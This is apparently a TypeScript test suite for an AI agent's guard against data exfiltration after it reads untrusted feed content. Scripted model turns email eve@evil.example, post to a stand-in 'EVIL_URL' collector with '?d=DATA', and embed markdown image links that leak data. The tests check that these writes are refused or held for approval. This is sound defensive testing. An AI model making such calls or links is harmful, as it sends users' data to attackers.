import { sampleSmtpLogin } from "@plumbline/sandbox/mail/smtp-server.ts";
import { beforeAll, beforeEach, expect, test } from "vitest";
import { startedForFile } from "../support/started.ts";
import { modelCall, startAgent } from "./agent-under-test.ts";

const EVIL_URL = "https://127.0.0.1:9/collect";

const agent = startedForFile(startAgent);

beforeAll(async () => {
  const { user, token } = sampleSmtpLogin;
  await agent.connect({ kind: "mail_oauth_b", token, metadata: { username: user } });
});

beforeEach(() => agent.clear());

const feedUrl = () => `${agent.sandbox.feeds.url}/rss.xml`;
const readsFeed = () => modelCall("feed_read", { url: feedUrl() });

test("a write of the same turn is decided after the reads", async () => {
  const mail = modelCall("email_send", { to: ["eve@evil.example"], subject: "s", text: "Hello." });
  const before = agent.sandbox.smtp.delivered.length;
  agent.turns({ calls: [mail, readsFeed()] }, { text: "Done." });
  const run = await agent.run(`Write a limerick about what you read in ${feedUrl()}.`);
  const [first, second] = run.of("tool_result");
  expect(first).toMatchObject({ name: "feed_read", is_error: false });
  expect(second).toMatchObject({ name: "email_send", error_code: "approval_required" });
  expect(agent.sandbox.smtp.delivered).toHaveLength(before);
});

test("addresses that the user did not name are left out of the text", async () => {
  agent.turns(
    { calls: [readsFeed()] },
    {
      text: `Here: ![chart](${EVIL_URL}?d=DATA) and [more](${EVIL_URL}). See [the feed](${feedUrl()}).`,
    },
  );
  const run = await agent.run(`Write a limerick about what you read in ${feedUrl()}.`);
  expect(run.text).not.toMatch(/collect|DATA/);
  expect(run.text).toContain(`[the feed](${feedUrl()})`);
});

test.each([`${EVIL_URL}?d=DATA`, "https://collect.example/in#DATA"])(
  "a refused write to %s names its host, word for word in both places, and makes no link of it",
  async (url) => {
    agent.turns({ calls: [readsFeed()] }, { calls: [modelCall("http_post_json", { url, body: 1 })] });
    const run = await agent.run(`Write a limerick about what you read in ${feedUrl()}.`);
    const refused = run.of("tool_result").at(-1);
    const reason = refused?.is_error ? refused.refusal_reason : "";
    expect(reason).toContain(`clearly asks to send anything to ${new URL(url).host} (url)`);
    expect(run.text).toContain(reason);
    expect(run.text).not.toContain("DATA");
  },
);

test("the same text passes in a run that has read nothing", async () => {
  agent.turns({ text: `Here: [more](${EVIL_URL}).` });
  const run = await agent.run("Write a limerick about a teapot.");
  expect(run.text).toContain(EVIL_URL);
});

test("a place that the user's words leave open is put to the model, which is shown those words alone", async () => {
  const hook = `${agent.sandbox.webhook.url}/in`;
  const prompt = `Get the news of ${feedUrl()}. ${hook} wants them.`;
  agent.spans({ write_to: [hook] });
  agent.turns(
    { calls: [readsFeed()] },
    { calls: [modelCall("http_post_json", { url: hook, body: 1 })] },
    { calls: [modelCall("http_post_json", { url: `${hook}?d=1`, body: 1 })] },
    { text: "Done." },
  );
  const run = await agent.run(prompt);
  expect(run.of("tool_result").map(({ is_error }) => is_error)).toEqual([false, false, true]);
  const questions = agent.asked().filter(({ wire }) => wire.includes("response_format"));
  expect(questions).toHaveLength(1);
  expect(JSON.stringify(questions[0]?.messages)).toBe(
    JSON.stringify([{ role: "user", content: JSON.stringify({ messages: [prompt] }) }]),
  );
});

test("a name of the policy's places leads to its destination", async () => {
  const policy = (body: object) => agent.call("PUT", "/api/v1/policy", { body });
  expect((await policy({ places: { "my boss": "ada@example.com" } })).status).toBe(200);
  const mail = modelCall("email_send", { to: ["ada@example.com"], subject: "s", text: "Hello." });
  agent.turns({ calls: [readsFeed()] }, { calls: [mail] }, { text: "Done." });
  const named = await agent.run(`Read ${feedUrl()} and mail my boss a limerick about it.`);
  expect(named.of("tool_result").at(-1)).toMatchObject({ is_error: false });
  agent.turns({ calls: [readsFeed()] }, { calls: [mail] }, { text: "Done." });
  const mentioned = await agent.run(`Write a limerick about ${feedUrl()} and my boss.`);
  expect(mentioned.of("tool_result").at(-1)).toMatchObject({ error_code: "approval_required" });
  await policy({});
});
